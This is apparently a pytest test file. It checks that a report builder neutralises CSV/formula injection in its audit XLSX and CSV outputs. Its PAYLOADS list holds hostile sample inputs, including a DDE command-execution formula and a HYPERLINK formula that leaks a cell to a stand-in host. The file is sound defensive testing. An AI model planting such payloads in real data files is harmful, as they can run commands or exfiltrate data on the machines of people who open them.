"""Threat: text in a data file becomes a live formula in the audit table (CSV/formula injection).

The audit XLSX must never hold a formula (`<f>`) that came from data; in the CSV, a cell that
starts with = + - @ tab or CR is prefixed with a single quote (OWASP), but a plain number
such as -3.2 stays a number.
"""

from __future__ import annotations

import csv
import io
import re
import zipfile

import openpyxl
import pytest

from authoring.records.audit import csv_cell

from .conftest import cli

PAYLOADS = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?leak="&A1)', "+SUM(1+1)",
            "@SUM(1+1)", "-2+3+cmd|' /C calc'!A0", "\t=1+1"]


@pytest.fixture
def hostile_build(english_copy):
    meta = english_copy / "data" / "meta.yaml"
    text = meta.read_text(encoding="utf-8")
    text = text.replace("    label: Research grants awarded\n",
                        "    label: Research grants awarded\n    notes: \"=1+2\"\n"
                        "    source: \"@SUM(1+1)\"\n", 1)
    meta.write_text(text, encoding="utf-8")
    values = english_copy / "data" / "values.csv"
    rows = list(csv.reader(io.StringIO(values.read_text(encoding="utf-8"))))
    rows[0].append("note")
    for i, row in enumerate(rows[1:]):
        row.append(PAYLOADS[i % len(PAYLOADS)])
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="\n").writerows(rows)
    values.write_text(buffer.getvalue(), encoding="utf-8")
    result = cli("build", "--project", str(english_copy), "--format", "html")
    assert result.exit_code == 0, result.output
    return english_copy / "out"


def it_writes_no_formula_into_the_audit_workbook(hostile_build):
    path = hostile_build / "innovation-review-2023-audit.xlsx"
    with zipfile.ZipFile(path) as archive:
        sheets = [archive.read(n).decode("utf-8") for n in archive.namelist()
                  if n.startswith("xl/worksheets/")]
    assert sheets and not any(re.search(r"<f[ >]", sheet) for sheet in sheets)
    book = openpyxl.load_workbook(path)
    texts = {c.value for row in book.active.iter_rows() for c in row if isinstance(c.value, str)}
    # the data text is kept verbatim, as text
    assert "=cmd|' /C calc'!A0" in texts and "=1+2" in texts and "@SUM(1+1)" in texts
    assert all(c.data_type != "f" for row in book.active.iter_rows() for c in row)


def it_neutralises_formula_cells_in_the_audit_csv(hostile_build):
    text = (hostile_build / "innovation-review-2023-audit.csv").read_text(encoding="utf-8-sig")
    cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
    dangerous = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")
                 and not re.fullmatch(r"[+-][\d.,]+%?", c)]
    assert dangerous == []
    assert "'=cmd|' /C calc'!A0" in cells and "'=1+2" in cells and "'@SUM(1+1)" in cells


@pytest.mark.parametrize("value, shown", [
    ("-3.2", "-3.2"), ("+5", "+5"), ("-1,234.5", "-1,234.5"), ("-0.4%", "-0.4%"), ("1e-3", "1e-3"),
    ("-", "'-"), ("-2+3", "'-2+3"), ("=1", "'=1"), ("@A1", "'@A1"), ("\t1", "'\t1"),
    ("+A1", "'+A1"), ("\r=1", "'\r=1"), ("plain", "plain"), (7, 7)])
def it_keeps_plain_numbers_as_numbers(value, shown):
    assert csv_cell(value) == shown
